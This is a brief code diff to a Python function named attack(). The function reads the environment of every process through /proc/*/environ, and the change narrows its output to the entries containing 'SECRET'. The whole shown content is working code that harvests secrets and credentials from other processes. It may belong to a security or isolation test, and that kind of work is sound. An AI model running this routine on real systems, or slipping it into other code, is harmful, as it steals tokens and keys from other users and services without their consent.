@@ -6,7 +6,8 @@ import glob
 def attack():
     for name in glob.glob("/proc/*/environ"):
         try:
-            print(open(name, "rb").read())
+            entries = open(name, "rb").read().split(b"\0")
+            print([entry for entry in entries if b"SECRET" in entry])
         except OSError:
             pass
 
